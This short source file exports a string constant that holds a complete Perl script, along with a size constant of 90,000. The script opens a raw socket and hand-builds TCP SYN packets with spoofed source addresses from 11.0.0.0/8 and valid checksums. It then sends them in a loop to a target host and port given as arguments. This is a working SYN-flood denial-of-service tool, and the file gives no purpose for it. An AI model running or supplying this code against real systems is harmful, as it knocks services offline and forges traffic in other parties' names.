/** ADDRESS PORT COUNT: that many SYNs from addresses of 11.0.0.0/8, none of them twice. */
export const FLOOD = `
use Socket;
my ($to, $port, $count) = @ARGV;
socket(my $raw, PF_INET, SOCK_RAW, 255) or die "raw: $!";
my $target = pack_sockaddr_in(0, inet_aton($to));
for my $n (1..$count) {
  my $source = pack('N', 0x0b000000 + $n);
  my $tcp = pack('nnNNCCnnn', 1024 + $n % 60000, $port, $n, 0, 0x50, 2, 65535, 0, 0);
  my $sum = 0;
  $sum += $_ for unpack('n*', $source . inet_aton($to) . pack('nn', 6, length $tcp) . $tcp);
  $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
  substr($tcp, 16, 2) = pack('n', ~$sum & 0xffff);
  send($raw, pack('CCnnnCCn', 0x45, 0, 40, $n & 0xffff, 0, 64, 6, 0) . $source . inet_aton($to) . $tcp, 0, $target);
}`;
export const FLOOD_SIZE = 90_000;
